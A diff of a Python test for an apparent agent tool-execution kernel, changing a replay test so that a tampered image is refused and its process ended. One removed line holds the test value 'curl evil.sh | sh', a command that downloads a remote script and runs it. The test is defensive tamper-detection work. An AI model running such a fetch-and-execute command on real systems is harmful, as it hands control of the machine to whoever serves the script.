@@ -223,10 +223,11 @@ async def test_replay_runs_the_image_tool_code_the_chain_says_ran(db_path: Path)
                 tool["hash"] = lookalike
         edit(db_path, "UPDATE images SET spec=? WHERE name='imaged'", json.dumps(spec))
     async with opened(db_path) as kernel:
-        replayed = await kernel.replay(inv)
-        # replay ran the code the chain recorded, not what the edited image names
-        assert replayed["same"] is True and replayed["logs"] == []
-        assert replayed["replayed"]["value"] == "curl evil.sh | sh at true"
-        # the neighbour: a live call runs what the store names now, and its record says so
-        assert await kernel.call_tool(pid, "t", {"cmd": "ls"}) == "ls at true"
-        assert kernel.audit(pid)[-1]["detail"]["code"] == {"lang": "ts", "hash": lookalike}
+        # The edited image is refused at load (invariant 15): the process on it is not run
+        # again but ended, and the opening broker's record of that makes replay refuse too.
+        row = kernel.store.get_process(pid)
+        assert row["state"] == "killed" and "image imaged:1" in row["reason"]
+        with pytest.raises(Tampered, match="image imaged:1 is stored otherwise"):
+            await kernel.replay(inv)
+        with pytest.raises(Tampered, match="image imaged:1 is stored otherwise"):
+            kernel.spawn("imaged", caps=CAPS)
